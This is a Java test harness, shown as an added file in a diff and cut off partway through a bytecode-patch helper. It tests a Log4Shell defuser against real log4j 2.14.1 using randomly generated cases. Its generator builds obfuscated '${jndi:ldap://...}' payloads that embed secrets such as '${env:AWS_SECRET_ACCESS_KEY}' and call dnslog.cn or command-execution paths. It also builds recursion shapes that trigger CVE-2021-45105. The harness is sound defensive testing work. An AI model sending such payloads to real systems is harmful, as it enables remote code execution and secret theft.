@@ -1,0 +1,1152 @@
+/*
+ * Log4jDiff.java -- the real-log4j oracle, case generator and comparator of
+ * the differential test (see docs/differential-testing.md).
+ *
+ * Modes (all files: one case per line; a case is the hex of its UTF-8 bytes):
+ *   gen SEED COUNT                write COUNT random cases to stdout
+ *   tohex                         text lines on stdin (UTF-8) -> hex lines;
+ *                                 blank lines and lines starting "#" skipped
+ *   eval                          hex cases on stdin -> oracle results on stdout
+ *   compare CASES EXPECTED GOT [MAX] [--names-only]
+ *                                 print the first MAX differing cases, exit 1
+ *                                 if any differ
+ *   show                          hex lines on stdin -> escaped text
+ *
+ * A result line is "STATUS[ =HEX]...[ #HEXFINAL]": STATUS is ok, cycle
+ * (2.14.1's IllegalStateException "Infinite loop"), overflow
+ * (StackOverflowError) or error:CLASS; each "=HEX" is one distinct JNDI name
+ * requested (hex of UTF-8, sorted); "#HEXFINAL" (oracle only, informational)
+ * is the formatted message.  defuse_eval prints "ok" or "recursion" instead.
+ *
+ * The oracle evaluates a message as log4j-core 2.14.1's
+ * MessagePatternConverter.format() does: whenever the builder holds "${" at
+ * index i, the WHOLE message is replaced by StrSubstitutor.replace() of it
+ * and the scan continues at i+1 over the new text.  The Interpolator's own
+ * lookups are replaced: "jndi" records its key and returns null, every other
+ * prefix except lower, upper and date returns null (the victim's state is
+ * unknown), and the properties map is empty (${hostName} is unresolved).
+ */
+import java.io.BufferedReader;
+import java.io.BufferedWriter;
+import java.io.IOException;
+import java.io.InputStreamReader;
+import java.io.OutputStreamWriter;
+import java.io.PrintStream;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Paths;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.Collections;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Random;
+import java.util.TreeSet;
+
+import org.apache.logging.log4j.Level;
+import org.apache.logging.log4j.LoggingException;
+import org.apache.logging.log4j.core.LogEvent;
+import org.apache.logging.log4j.core.impl.Log4jLogEvent;
+import org.apache.logging.log4j.core.lookup.Interpolator;
+import org.apache.logging.log4j.core.lookup.MapLookup;
+import org.apache.logging.log4j.core.lookup.StrLookup;
+import org.apache.logging.log4j.core.lookup.StrSubstitutor;
+import org.apache.logging.log4j.message.SimpleMessage;
+import org.apache.logging.log4j.status.StatusData;
+import org.apache.logging.log4j.status.StatusListener;
+import org.apache.logging.log4j.status.StatusLogger;
+
+public final class Log4jDiff {
+
+    /** One substitution pass (StrSubstitutor.replace(event, text) of 2.14.1). */
+    public interface Substituter {
+        String run(LogEvent event, String text);
+    }
+
+    /** Thrown from the status listener when 2.19 reports a cycle. */
+    static final class CycleException extends LoggingException {
+        private static final long serialVersionUID = 1L;
+
+        CycleException(final String msg) {
+            super(msg);
+        }
+    }
+
+    /* Victim-state prefixes (LOG4J.md); any other registered prefix except
+     * lower/upper/date is nulled too. */
+    private static final String[] VICTIM_PREFIXES = {
+        "env", "sys", "java", "ctx", "main", "map", "sd", "docker", "k8s", "kubernetes", "spring", "web",
+        "bundle", "jvmrunargs", "log4j", "marker", "event"
+    };
+
+    private static final StrLookup NULL_LOOKUP = new StrLookup() {
+        @Override
+        public String lookup(final String key) {
+            return null;
+        }
+
+        @Override
+        public String lookup(final LogEvent event, final String key) {
+            return null;
+        }
+    };
+
+    private final TreeSet<String> requested = new TreeSet<>();
+    private final Substituter sub;
+    private final LogEvent event;
+    /** Upper bound of MessagePatternConverter passes (a guard, never reached by generated cases). */
+    private static final int MAX_TEXT = 1 << 20;
+
+    Log4jDiff() throws Exception {
+        final Interpolator interp = new Interpolator(new MapLookup(new HashMap<String, String>()),
+                Collections.<String>emptyList());
+        final java.util.Map<String, StrLookup> map = interp.getStrLookupMap();
+        for (final String k : new ArrayList<>(map.keySet())) {
+            if (!k.equals("lower") && !k.equals("upper") && !k.equals("date")) {
+                map.put(k, NULL_LOOKUP);
+            }
+        }
+        for (final String k : VICTIM_PREFIXES) {
+            map.put(k, NULL_LOOKUP);
+        }
+        map.put("jndi", new StrLookup() {
+            @Override
+            public String lookup(final String key) {
+                if (key != null) {
+                    requested.add(key);
+                }
+                return null;
+            }
+
+            @Override
+            public String lookup(final LogEvent e, final String key) {
+                return lookup(key);
+            }
+        });
+        if (!map.containsKey("lower") || !map.containsKey("upper") || !map.containsKey("date")) {
+            throw new IllegalStateException("lower/upper/date lookups missing: " + map.keySet());
+        }
+        boolean has219;
+        try {
+            Class.forName("org.apache.logging.log4j.core.lookup.LookupResult");
+            has219 = true;
+        } catch (final ClassNotFoundException e) {
+            has219 = false;
+        }
+        if (has219) {
+            sub = (Substituter) Class.forName("Sub219").getConstructor(StrLookup.class).newInstance(interp);
+        } else {
+            final StrSubstitutor plain = new StrSubstitutor(interp);
+            sub = (e, t) -> plain.replace(e, t);
+        }
+        /* Turns 2.19's cycle warning into 2.14.1's exception (and keeps other
+         * status messages, e.g. bad date patterns, off stderr). */
+        StatusLogger.getLogger().registerListener(new StatusListener() {
+                @Override
+                public void log(final StatusData data) {
+                    final String m = data.getMessage().getFormattedMessage();
+                    if (m.startsWith("Infinite loop")) {
+                        throw new CycleException(m);
+                    }
+                }
+
+                @Override
+                public Level getStatusLevel() {
+                    return Level.WARN;
+                }
+
+                @Override
+                public void close() {
+                }
+            });
+        event = Log4jLogEvent.newBuilder().setLoggerName("diff").setLevel(Level.INFO)
+                .setMessage(new SimpleMessage("diff")).setTimeMillis(0L).build();
+    }
+
+    static String version() {
+        final Package p = Interpolator.class.getPackage();
+        final String v = p == null ? null : p.getImplementationVersion();
+        return v == null ? "unknown" : v;
+    }
+
+    /* ---------------------------------------------------------------- */
+    /* Evaluation                                                        */
+    /* ---------------------------------------------------------------- */
+
+    /** Evaluates one message; returns the result line. */
+    String evaluate(final String msg) {
+        requested.clear();
+        String status = "ok";
+        final StringBuilder wb = new StringBuilder(msg);
+        try {
+            for (int i = 0; i < wb.length() - 1; i++) {
+                if (wb.charAt(i) == '$' && wb.charAt(i + 1) == '{') {
+                    final String value = wb.toString();
+                    wb.setLength(0);
+                    wb.append(sub.run(event, value));
+                    if (wb.length() > MAX_TEXT) {
+                        status = "error:too-long";
+                        break;
+                    }
+                }
+            }
+        } catch (final CycleException e) {
+            status = "cycle";
+        } catch (final IllegalStateException e) {
+            status = e.getMessage() != null && e.getMessage().startsWith("Infinite loop") ? "cycle"
+                    : "error:" + e.getClass().getName();
+        } catch (final StackOverflowError e) {
+            status = "overflow";
+        } catch (final Throwable e) {
+            status = "error:" + e.getClass().getName();
+        }
+        final StringBuilder out = new StringBuilder(status);
+        final TreeSet<String> hexes = new TreeSet<>();
+        for (final String n : requested) {
+            hexes.add(hex(n));
+        }
+        for (final String h : hexes) {
+            out.append(" =").append(h);
+        }
+        if (status.equals("ok")) {
+            out.append(" #").append(hex(wb.toString()));
+        }
+        return out.toString();
+    }
+
+    /* ---------------------------------------------------------------- */
+    /* Hex and escaping                                                  */
+    /* ---------------------------------------------------------------- */
+
+    static String hex(final String s) {
+        final byte[] b = s.getBytes(StandardCharsets.UTF_8);
+        final StringBuilder sb = new StringBuilder(b.length * 2);
+        for (final byte x : b) {
+            sb.append(Character.forDigit((x >> 4) & 15, 16)).append(Character.forDigit(x & 15, 16));
+        }
+        return sb.toString();
+    }
+
+    static byte[] unhexBytes(final String h) {
+        if ((h.length() & 1) != 0) {
+            throw new IllegalArgumentException("odd hex length");
+        }
+        final byte[] b = new byte[h.length() / 2];
+        for (int i = 0; i < b.length; i++) {
+            final int hi = Character.digit(h.charAt(2 * i), 16);
+            final int lo = Character.digit(h.charAt(2 * i + 1), 16);
+            if (hi < 0 || lo < 0) {
+                throw new IllegalArgumentException("bad hex digit");
+            }
+            b[i] = (byte) (hi << 4 | lo);
+        }
+        return b;
+    }
+
+    static String unhex(final String h) {
+        return new String(unhexBytes(h), StandardCharsets.UTF_8);
+    }
+
+    /** Java-style escaped text: printable ASCII kept, the rest as \\uXXXX. */
+    static String show(final String s) {
+        final StringBuilder sb = new StringBuilder();
+        for (int i = 0; i < s.length(); i++) {
+            final char c = s.charAt(i);
+            if (c == '\\') {
+                sb.append("\\\\");
+            } else if (c >= 0x20 && c < 0x7f) {
+                sb.append(c);
+            } else {
+                sb.append(String.format("\\u%04X", (int) c));
+            }
+        }
+        return sb.toString();
+    }
+
+    /* ---------------------------------------------------------------- */
+    /* Generator                                                         */
+    /* ---------------------------------------------------------------- */
+
+    static final class Gen {
+        private static final String[] SCHEMES = {
+            "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"
+        };
+        private static final String[] JUNK_KEYS = {
+            "", ":", "::", "anything", "env:NaN", "foo:bar", "k8s:k5", "sd:k5", "sys:k5", "main:\\k5", "ctx:x",
+            "spring:k5", "web:k5", "env:ENV_NAME", "what:ever", "x:UMADq", "123%25ff", "EnV:K5", "jvmrunargs:q",
+            "event:a", "bundle:b:c", "hostName", "map:m", "docker:d", "kubernetes:k", "log4j:x", "marker:m"
+        };
+        private static final String[] VICTIMS = {
+            "${env:USER}", "${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${hostName}", "${java:os}",
+            "${env:COMPUTERNAME}", "${sys:user.name}", "${java:version}", "${ctx:loginId}", "${main:0}",
+            "${env:HOME:-nohome}", "${sys:os.name:-x}", "${contextName}", "${docker:containerId}",
+            "${k8s:podName}", "${spring:spring.application.name}", "${web:rootDir}", "${map:type}",
+            "${jvmrunargs:0}", "${log4j:configLocation}", "${marker:m}", "${event:Message}", "${sd:type}",
+            "${bundle:application:x}"
+        };
+        private static final String[] WORDS = {
+            "GET", "/index.html", "user", "login", "failed", "for", "id=42", "HTTP/1.1", "200", "-", "ua:",
+            "Mozilla/5.0", "ok", "${", "}", "$", "{", ":-", "jndi", "ldap", "caf\u00e9", "\u4e2d\u6587",
+            "\uD83D\uDE00", "\u0131", "\u212A", "\u017F", "x=$1", "a:b", "${}", "$}", "}}", "'", "\\", "%24%7B",
+            "\t", "${user.name}", "#{x}", "@"
+        };
+
+        /* Characters whose case mapping is unusual (expanding, context-dependent,
+         * outside the BMP, title case). */
+        private static final String[] UNI = {
+            "\u0131", "\u017F", "\u212A", "\u0130", "\u00DF", "\u03A3", "\u03C3", "\u03C2", "\u01C5", "\u0149",
+            "\uFB00", "\u0390", "\uD801\uDC00", "\uD801\uDC28", "\u13A0", "\uAB70", "\u10D0", "\u1E9E",
+            "\u00E9", "\u00C9", "\u0345", "\u1F80", "\u2126", "\u212B", "\u0587", "\uFF41", "\uFF21", "A", "z",
+            "\u4E2D", "\uD83D\uDE00", " ", "\u00A0"
+        };
+        /* Odd bytes in names: whitespace, control characters, quotes, "$", braces. */
+        private static final String[] ODD = {
+            "\t", " ", "\u0001", "\u007F", "'", "\"", "$", "{", "$$", "\\", ":-", ":\\-", "%24", "&#36;", "\r"
+        };
+        static final int MAX_DEPTH = 6;
+        private final Random r;
+        /** Inside a date pattern: no further date tricks (quotes do not nest). */
+        private boolean inDate;
+
+        Gen(final long seed) {
+            r = new Random(seed);
+        }
+
+        private boolean p(final double prob) {
+            return r.nextDouble() < prob;
+        }
+
+        private String pick(final String[] a) {
+            return a[r.nextInt(a.length)];
+        }
+
+        private String label() {
+            final String al = "abcdefghijklmnopqrstuvwxyz0123456789";
+            final int n = 1 + r.nextInt(8);
+            final StringBuilder sb = new StringBuilder();
+            for (int i = 0; i < n; i++) {
+                sb.append(al.charAt(r.nextInt(al.length())));
+            }
+            return sb.toString();
+        }
+
+        private String host() {
+            switch (r.nextInt(8)) {
+            case 0:
+                return "127.0.0.1";
+            case 1:
+                return "127.0.0.1#" + label() + ".com";
+            case 2:
+                return r.nextInt(256) + "." + r.nextInt(256) + "." + r.nextInt(256) + "." + r.nextInt(256);
+            case 3:
+                return label() + ".dnslog.cn";
+            default:
+                return label() + "." + label() + ".com";
+            }
+        }
+
+        /** The JNDI name, with the victim-value lookups still as ${...} text. */
+        private List<String> nameParts() {
+            final List<String> parts = new ArrayList<>();
+            parts.add(pick(SCHEMES));
+            parts.add(p(0.1) ? ":/" : "://");
+            if (p(0.3)) {
+                parts.add("\u0000V");
+                parts.add(".");
+            }
+            parts.add(host());
+            if (p(0.3)) {
+                parts.add(":" + (1000 + r.nextInt(9000)));
+            }
+            switch (r.nextInt(8)) {
+            case 0:
+                break;
+            case 6:
+                parts.add("/");
+                parts.add("\u0000U");
+                break;
+            case 7:
+                parts.add("/" + label());
+                parts.add(pick(ODD));
+                break;
+            case 1:
+                parts.add("/Basic/Command/Base64/aWQ=");
+                break;
+            case 2:
+                parts.add("/a?leak=");
+                parts.add("\u0000V");
+                break;
+            case 3:
+                parts.add("/" + label());
+                parts.add("\u0000V");
+                break;
+            default:
+                parts.add("/" + label());
+                break;
+            }
+            return parts;
+        }
+
+        /* Mixed-case ASCII letters. */
+        private String mixCase(final String s) {
+            final StringBuilder sb = new StringBuilder();
+            for (final char c : s.toCharArray()) {
+                sb.append(p(0.5) ? Character.toUpperCase(c) : c);
+            }
+            return sb.toString();
+        }
+
+        /* A string whose toLowerCase() (en_US) is s, or nearly (rare İ). */
+        private String forLower(final String s) {
+            final StringBuilder sb = new StringBuilder();
+            for (final char c : s.toCharArray()) {
+                if (c == 'k' && p(0.4)) {
+                    sb.append('\u212A');
+                } else if (c == 'i' && p(0.05)) {
+                    sb.append('\u0130');
+                } else if (p(0.5)) {
+                    sb.append(Character.toUpperCase(c));
+                } else {
+                    sb.append(c);
+                }
+            }
+            return sb.toString();
+        }
+
+        /* A string whose toUpperCase() (en_US) is upper(s), using ı, ſ, ß. */
+        private String forUpper(final String s) {
+            final StringBuilder sb = new StringBuilder();
+            for (int i = 0; i < s.length(); i++) {
+                final char c = s.charAt(i);
+                if (c == 'i' && p(0.4)) {
+                    sb.append('\u0131');
+                } else if (c == 's' && i + 1 < s.length() && s.charAt(i + 1) == 's' && p(0.5)) {
+                    sb.append('\u00DF');
+                    i++;
+                } else if (c == 's' && p(0.4)) {
+                    sb.append('\u017F');
+                } else {
+                    sb.append(p(0.3) ? Character.toUpperCase(c) : c);
+                }
+            }
+            return sb.toString();
+        }
+
+        private static boolean hasAsciiLetter(final String s) {
+            for (final char c : s.toCharArray()) {
+                if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) {
+                    return true;
+                }
+            }
+            return false;
+        }
+
+        /* A lookup-name key that resolves to nothing, optionally obfuscated. */
+        private String junkKey(final int depth) {
+            String k = pick(JUNK_KEYS);
+            if (p(0.15)) {
+                k = label() + ":" + label();
+            }
+            if (depth > 0 && p(0.15) && k.length() > 1) {
+                final int cut = 1 + r.nextInt(k.length() - 1);
+                if (k.charAt(cut - 1) != '\\') {
+                    k = k.substring(0, cut) + obf(k.substring(cut), depth - 1, false);
+                }
+            }
+            if (p(0.05)) {
+                k = k + ":\\-" + label();
+            }
+            return k;
+        }
+
+        /** Text that evaluates to s (s holds no "${" and no "}"). */
+        String obf(final String s, final int depth, final boolean caseFree) {
+            if (s.isEmpty()) {
+                return s;
+            }
+            final StringBuilder sb = new StringBuilder();
+            int i = 0;
+            while (i < s.length()) {
+                int n = 1 + r.nextInt(Math.min(4, s.length() - i));
+                if (Character.isHighSurrogate(s.charAt(i + n - 1)) && i + n < s.length()) {
+                    n++;
+                }
+                final String c = s.substring(i, i + n);
+                i += n;
+                if (depth <= 0 || p(depth >= 4 ? 0.45 : 0.6)) {
+                    sb.append(caseFree ? mixCase(c) : c);
+                } else {
+                    sb.append(trick(c, depth, caseFree));
+                }
+            }
+            return sb.toString();
+        }
+
+        private String trick(final String c, final int depth, final boolean caseFree) {
+            final int d = depth - 1;
+            switch (r.nextInt(11)) {
+            case 0:
+            case 1:
+            case 2:
+                return "${" + junkKey(d) + ":-" + obf(c, d, caseFree) + "}";
+            case 3:
+                return "${" + obf(mixCase("lower"), d, true) + ":" + obf(forLower(c), d, false) + "}";
+            case 4:
+                if (!c.equals(c.toLowerCase()) || !caseFree) {
+                    return "${" + (p(0.8) ? "lower" : mixCase("lower")) + ":" + obf(forLower(c), d, false) + "}";
+                }
+                return "${" + (p(0.8) ? "upper" : mixCase("upper")) + ":" + obf(forUpper(c), d, false) + "}";
+            case 5:
+                if (caseFree) {
+                    return "${" + (p(0.8) ? "upper" : "UpPeR") + ":" + obf(forUpper(c), d, false) + "}";
+                }
+                return "${lower:" + c + "}";
+            case 6: {
+                if (inDate || c.contains("'") || c.contains("-")) {
+                    return "${::-" + c + "}";
+                }
+                if (!hasAsciiLetter(c) && p(0.5)) {
+                    return "${date:" + c + "}";
+                }
+                inDate = true;
+                final String inner = obf(c, d, false);
+                inDate = false;
+                return "${" + (p(0.8) ? "date" : "DaTe") + ":'" + inner + "'}";
+            }
+            case 7:
+                /* escaped delimiter: ${x:\-y:-c} */
+                return "${" + label() + ":\\-" + label() + ":-" + obf(c, d, caseFree) + "}";
+            case 8:
+                /* Kelvin sign / mixed case in a victim prefix, used for its default */
+                return "${" + (p(0.5) ? "\u212A8s" : mixCase("env")) + ":" + label() + ":-" + obf(c, d, caseFree)
+                        + "}";
+            case 9:
+                /* $$ inside a default: evaluated by 2.14.1's recursion */
+                return "${" + label() + ":-$${" + label() + ":-" + c + "}}";
+            default:
+                return "${" + obf("::", d, false) + "-" + obf(c, d, caseFree) + "}";
+            }
+        }
+
+        /** ${lower:...}/${upper:...} over unusual case mappings. */
+        String unicodeCase() {
+            final StringBuilder sb = new StringBuilder();
+            final int n = 1 + r.nextInt(5);
+            for (int i = 0; i < n; i++) {
+                sb.append(pick(UNI));
+            }
+            return "${" + (p(0.5) ? "lower" : "upper") + ":" + sb + "}";
+        }
+
+        private String victim(final int depth) {
+            final String v = pick(VICTIMS);
+            if (depth > 0 && p(0.3)) {
+                /* obfuscate the inside: ${${lower:env}:USER} */
+                final String inner = v.substring(2, v.length() - 1);
+                return "${" + obf(inner, depth - 1, false) + "}";
+            }
+            return v;
+        }
+
+        private String name(final int depth) {
+            final StringBuilder sb = new StringBuilder();
+            for (final String part : nameParts()) {
+                if (part.equals("\u0000V")) {
+                    sb.append(victim(depth));
+                } else if (part.equals("\u0000U")) {
+                    sb.append(unicodeCase());
+                } else {
+                    sb.append(obf(part, p(0.4) ? depth : r.nextInt(2), false));
+                }
+            }
+            return sb.toString();
+        }
+
+        /** A payload that should fire. */
+        String payload() {
+            final int depth = 1 + r.nextInt(5);
+            final String pre = p(0.8) ? obf("jndi", depth, true) : mixCase("jndi");
+            final String colon = p(0.7) ? ":" : obf(":", depth, false);
+            String body = name(depth);
+            if (p(0.1)) {
+                /* jndi inside lower/upper: fires twice, once lower-cased */
+                return "${" + pick(new String[] {"lower", "upper", "::-"}) + (p(0.5) ? ":" : "") + "${" + pre
+                        + colon + body + "}}";
+            }
+            return "${" + pre + colon + body + "}";
+        }
+
+        /** Near misses: look like payloads, mostly do not fire. */
+        String nearMiss() {
+            final String name = pick(SCHEMES) + "://" + host() + "/" + label();
+            switch (r.nextInt(22)) {
+            case 0:
+                return "${ jndi:" + name + "}";
+            case 1:
+                return "${jndi :" + name + "}";
+            case 2:
+                return "${jnd1:" + name + "}";
+            case 3:
+                return "$${jndi:" + name + "}";
+            case 4:
+                return "${base64:" + Base64.getEncoder().encodeToString(("${jndi:" + name + "}")
+                        .getBytes(StandardCharsets.UTF_8)) + "}";
+            case 5:
+                return "${" + pick(new String[] {"jdni", "jndl", "nidj", "j ndi", "jndi-", "ndi", "jndii"}) + ":"
+                        + name + "}";
+            case 6:
+                return "{jndi:" + name + "}";
+            case 7:
+                return "$ {jndi:" + name + "}";
+            case 8:
+                return "${" + obf("jndi", 2, true) + ":" + name;
+            case 9:
+                return "${lower:jndi}:" + name;
+            case 10:
+                return "$${" + obf("jndi", 2, true) + ":" + name + "}";
+            case 11:
+                return "${" + obf("jnd", 2, true) + "${upper:\u0130}:" + name + "}";
+            case 12:
+                return "${jndi:" + name;
+            case 14:
+                /* unclosed "${" before a payload: only valid in exact mode */
+                return "${" + label() + " " + payload();
+            case 15:
+                return "${" + pick(ODD) + "jndi:" + name + "}";
+            case 16:
+                return "${jndi:" + name + pick(ODD) + "}";
+            case 17:
+                return "$$$${jndi:" + name + "}";
+            case 18:
+                return "${" + obf("jndi", 2, true) + ":" + name + "}}" + "${" + label() + ":-}";
+            case 19:
+                return "${date:'" + pick(UNI) + "''" + pick(UNI) + "'}" + "${date:" + pick(UNI).replaceAll("[A-Za-z]", "")
+                        + "}";
+            case 20:
+                return "${jndi:" + pick(SCHEMES) + "://" + host() + "/${jndi:" + name + "}}";
+            case 21:
+                return "${" + label() + label() + label() + label() + label() + label() + label() + ":-j}ndi:"
+                        + name + "}";
+            default:
+                return "${" + obf("jndi", 1, true) + "\\:" + name + "}";
+            }
+        }
+
+        /** CVE-2021-45105 shapes: cycles through "$$" in defaults. */
+        String recursion() {
+            final String k = pick(new String[] {":", "", "a", "x:y", "env:NaN", label()});
+            switch (r.nextInt(5)) {
+            case 0:
+                return "${${::-${::-$${::-j}}}}";
+            case 1:
+                return "${" + k + ":-$${" + k + ":-" + label() + "}}";
+            case 2:
+                /* the same name twice, but the inner one inside a nested name: no cycle in 2.14.1 */
+                return "${" + k + ":-$${$${" + k + ":-j}ndi:ldap://" + host() + "/r}}";
+            case 3:
+                return "${" + k + ":-${" + label() + ":-$${" + k + ":-" + payload() + "}}}";
+            default:
+                return "${" + k + ":-$${" + label() + ":-$${" + k + ":-z}}}";
+            }
+        }
+
+        String junk() {
+            final StringBuilder sb = new StringBuilder();
+            final int n = r.nextInt(4);
+            for (int i = 0; i < n; i++) {
+                sb.append(pick(WORDS));
+                if (p(0.7)) {
+                    sb.append(' ');
+                }
+            }
+            return sb.toString();
+        }
+
+        /** Maximum nesting of "${" ... "}" in s. */
+        static int depth(final String s) {
+            int d = 0;
+            int max = 0;
+            for (int i = 0; i < s.length(); i++) {
+                if (s.startsWith("${", i)) {
+                    d++;
+                    max = Math.max(max, d);
+                    i++;
+                } else if (s.charAt(i) == '}' && d > 0) {
+                    d--;
+                }
+            }
+            return max;
+        }
+
+        /** A random message with at most MAX_DEPTH nested lookups. */
+        String message() {
+            String m;
+            do {
+                m = message1();
+            } while (depth(m) > MAX_DEPTH);
+            return m;
+        }
+
+        private String message1() {
+            final StringBuilder sb = new StringBuilder();
+            final int segs = 1 + r.nextInt(3);
+            for (int i = 0; i < segs; i++) {
+                sb.append(junk());
+                final double x = r.nextDouble();
+                if (x < 0.6) {
+                    sb.append(payload());
+                } else if (x < 0.93) {
+                    sb.append(nearMiss());
+                } else if (x < 0.96) {
+                    sb.append(recursion());
+                } else {
+                    sb.append(victim(2));
+                }
+            }
+            sb.append(junk());
+            return sb.toString();
+        }
+    }
+
+    /* ---------------------------------------------------------------- */
+    /* Comparison                                                        */
+    /* ---------------------------------------------------------------- */
+
+    private static final class Parsed {
+        String status;
+        final TreeSet<String> names = new TreeSet<>();
+        String fin;
+
+        boolean error() {
+            return !status.equals("ok");
+        }
+    }
+
+    private static Parsed parse(final String line) {
+        final Parsed p = new Parsed();
+        final String[] f = line.trim().split(" ");
+        p.status = f[0];
+        for (int i = 1; i < f.length; i++) {
+            if (f[i].startsWith("=")) {
+                p.names.add(f[i].substring(1));
+            } else if (f[i].startsWith("#")) {
+                p.fin = f[i].substring(1);
+            }
+        }
+        return p;
+    }
+
+    private static String names(final TreeSet<String> hs) {
+        final StringBuilder sb = new StringBuilder("[");
+        for (final String h : hs) {
+            if (sb.length() > 1) {
+                sb.append(", ");
+            }
+            sb.append(h.equals("-") ? "(no callback)" : '"' + show(unhex(h)) + '"');
+        }
+        return sb.append(']').toString();
+    }
+
+    private static int compare(final String[] a) throws IOException {
+        final List<String> cases = Files.readAllLines(Paths.get(a[1]));
+        final List<String> exp = Files.readAllLines(Paths.get(a[2]));
+        final List<String> got = Files.readAllLines(Paths.get(a[3]));
+        final int max = a.length > 4 ? Integer.parseInt(a[4]) : 10;
+        final PrintStream out = new PrintStream(System.out, true, "UTF-8");
+        if (cases.size() != exp.size() || cases.size() != got.size()) {
+            out.printf("line counts differ: %d cases, %d expected, %d got%n", cases.size(), exp.size(),
+                    got.size());
+            return 1;
+        }
+        int bad = 0;
+        int fired = 0;
+        int errors = 0;
+        for (int i = 0; i < cases.size(); i++) {
+            final Parsed e = parse(exp.get(i));
+            final Parsed g = parse(got.get(i));
+            if (!e.names.isEmpty()) {
+                fired++;
+            }
+            if (e.error()) {
+                errors++;
+            }
+            final boolean gOk = g.status.equals("ok") || g.status.equals("recursion");
+            if (gOk && e.names.equals(g.names) && e.error() == g.error()) {
+                continue;
+            }
+            if (bad++ < max) {
+                out.printf("MISMATCH case %d: %s%n", i + 1, show(unhex(cases.get(i))));
+                out.printf("  log4j : %s %s%n", e.status, names(e.names));
+                out.printf("  defuse: %s %s%n", g.status, names(g.names));
+                if (e.fin != null) {
+                    out.printf("  log4j output: %s%n", show(unhex(e.fin)));
+                }
+            }
+        }
+        out.printf("%d cases, %d fire JNDI in log4j, %d end in a log4j error; %d mismatches%n", cases.size(),
+                fired, errors, bad);
+        return bad == 0 ? 0 : 1;
+    }
+
+    /* ---------------------------------------------------------------- */
+    /* Minimizer                                                         */
+    /* ---------------------------------------------------------------- */
+
+    /* Talks to "defuse_eval -u" one line at a time. */
+    private static final class Defuse implements AutoCloseable {
+        private final Process proc;
+        private final BufferedWriter w;
+        private final BufferedReader r;
+
+        Defuse(final String evalPath) throws IOException {
+            proc = new ProcessBuilder(evalPath, "-u").redirectError(ProcessBuilder.Redirect.INHERIT).start();
+            w = new BufferedWriter(new OutputStreamWriter(proc.getOutputStream(), StandardCharsets.UTF_8));
+            r = new BufferedReader(new InputStreamReader(proc.getInputStream(), StandardCharsets.UTF_8));
+        }
+
+        String eval(final String s) throws IOException {
+            w.write(hex(s));
+            w.write('\n');
+            w.flush();
+            final String l = r.readLine();
+            if (l == null) {
+                throw new IOException("defuse_eval died");
+            }
+            return l;
+        }
+
+        @Override
+        public void close() throws IOException {
+            w.close();
+            try {
+                proc.waitFor();
+            } catch (final InterruptedException e) {
+                Thread.currentThread().interrupt();
+            }
+        }
+    }
+
+    /* A mismatch's shape: which side fires, which side errs. */
+    private static String signature(final Parsed e, final Parsed g) {
+        final boolean gOk = g.status.equals("ok") || g.status.equals("recursion");
+        if (gOk && e.names.equals(g.names) && e.error() == g.error()) {
+            return null;
+        }
+        final TreeSet<String> onlyE = new TreeSet<>(e.names);
+        onlyE.removeAll(g.names);
+        final TreeSet<String> onlyG = new TreeSet<>(g.names);
+        onlyG.removeAll(e.names);
+        /* Keep "a name is missing" apart from "the empty name is missing": a
+         * different bug that minimizing would otherwise drift into. */
+        return (gOk ? "" : g.status) + "|" + e.error() + g.error() + "|" + onlyE.isEmpty() + onlyG.isEmpty() + "|"
+                + onlyE.contains("") + onlyG.contains("") + "|" + (onlyE.size() > (onlyE.contains("") ? 1 : 0))
+                + (onlyG.size() > (onlyG.contains("") ? 1 : 0));
+    }
+
+    /** Greedy delta debugging: removes spans while the mismatch keeps its shape. */
+    private String minimize(final String input, final Defuse d) throws IOException {
+        String s = input;
+        final String sig = signature(parse(evaluate(s)), parse(d.eval(s)));
+        if (sig == null) {
+            return null;
+        }
+        boolean changed = true;
+        while (changed) {
+            changed = false;
+            for (int size = Math.max(1, s.length() / 2); size >= 1; size = size == 1 ? 0 : Math.max(1, size / 2)) {
+                for (int i = 0; i + size <= s.length(); ) {
+                    final String cand = s.substring(0, i) + s.substring(i + size);
+                    if (sig.equals(signature(parse(evaluate(cand)), parse(d.eval(cand))))) {
+                        s = cand;
+                        changed = true;
+                    } else {
+                        i++;
+                    }
+                }
+            }
+        }
+        return s;
+    }
+
+    /** minimize EVAL: hex cases on stdin -> one minimized mismatch per input line (Markdown). */
+    private static void minimizeAll(final String evalPath) throws Exception {
+        final Log4jDiff o = new Log4jDiff();
+        final PrintStream out = new PrintStream(System.out, true, "UTF-8");
+        try (Defuse d = new Defuse(evalPath); BufferedReader rd = stdin()) {
+            String l;
+            while ((l = rd.readLine()) != null) {
+                final String in = unhex(l.trim());
+                final String m = o.minimize(in, d);
+                if (m == null) {
+                    out.println("- (no mismatch) `" + show(in) + "`");
+                    continue;
+                }
+                final Parsed e = parse(o.evaluate(m));
+                final Parsed g = parse(d.eval(m));
+                out.println("- input: `" + show(m) + "`  (hex " + hex(m) + ")");
+                out.println("  - expected (log4j): " + e.status + " " + names(e.names));
+                out.println("  - got (defuse):     " + g.status + " " + names(g.names));
+            }
+        }
+    }
+
+    /* ---------------------------------------------------------------- */
+    /* The 2.19 patch: nested-name substitution gets a fresh cycle stack */
+    /* ---------------------------------------------------------------- */
+
+    /*
+     * 2.14.1 substitutes a variable's name with substitute(event, bufName, 0,
+     * len) -- a fresh cycle-detection stack (priorVariables = null) -- while
+     * 2.19 first sets priorVariables = new ArrayList<>() if it is null and
+     * passes it on.  This rewrites, in a copy of 2.19's StrSubstitutor.class,
+     * the first (name-substitution) site of each inside the private
+     * substitute(LogEvent, StringBuilder, int, int, List):
+     *   aload 5; ifnonnull L; new ArrayList; dup; invokespecial <init>; astore 5
+     *        -> the allocation becomes nop x 9
+     *   aload 5; invokespecial substitute(...List)I
+     *        -> aconst_null; nop; invokespecial ...
+     * Both sites are found through the constant pool, and each pattern must
+     * occur exactly twice (name site first, value site second) or the patch
+     * refuses.  Nothing else changes, so stack map frames stay valid.
+     */
+    private static final String SUBST_CLASS = "org/apache/logging/log4j/core/lookup/StrSubstitutor";
+    private static final String SUBST_DESC =
+            "(Lorg/apache/logging/log4j/core/LogEvent;Ljava/lang/StringBuilder;IILjava/util/List;)I";
+
+    private static int u2(final byte[] b, final int at) {
+        return (b[at] & 255) << 8 | (b[at + 1] & 255);
+    }
+
